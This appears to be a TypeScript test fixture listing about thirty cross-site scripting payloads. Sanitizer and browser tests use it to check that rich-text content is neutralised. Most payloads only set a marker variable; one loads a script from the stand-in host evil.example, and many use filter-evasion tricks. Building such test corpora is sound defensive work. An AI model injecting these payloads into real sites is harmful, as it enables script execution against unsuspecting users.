/**
 * Classic cross-site scripting payloads for rich-text bodies (plans, news): the server's sanitizing
 * tests store them and check nothing runnable survives; the browser journey renders them and checks
 * nothing ran. Each one, if it ran, sets `window.__xss` or opens a dialog.
 */
export const XSS_CORPUS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.__xss=2">',
  '<img src="/files/2026/01/0123456789abcdef01234567.png" onload="window.__xss=3">',
  '<svg onload="window.__xss=4"><circle r="1"/></svg>',
  '<svg><script>window.__xss=5</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=6"></style></mglyph></table></mtext></math>',
  '<a href="javascript:window.__xss=7">点我</a>',
  '<a href="JaVaScRiPt:window.__xss=8">大小写</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=9">实体</a>',
  '<a href=" javascript:window.__xss=10">前导空格</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<iframe src="javascript:window.top.__xss=11"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=12</script>"></iframe>',
  '<object data="javascript:window.__xss=13"></object>',
  '<embed src="javascript:window.__xss=14">',
  '<p style="background:url(javascript:window.__xss=15)">样式</p>',
  '<div style="width: expression(window.__xss=16)">expression</div>',
  '<style>@import "javascript:window.__xss=17";</style>',
  '<body onload="window.__xss=18">',
  '<details open ontoggle="window.__xss=19">',
  '<form action="javascript:window.__xss=20"><button>提交</button></form>',
  '<input autofocus onfocus="window.__xss=21">',
  '<video><source onerror="window.__xss=22"></video>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=23">',
  '<base href="javascript:window.__xss=24//">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=">',
  '<p title="&quot;><script>window.__xss=25</script>">属性逃逸</p>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=26>">',
  '<table background="javascript:window.__xss=27"><tr><td>表格</td></tr></table>',
  '<a href="#" onclick="window.__xss=28">onclick</a>',
  '<<script>script>window.__xss=29<</script>/script>',
];
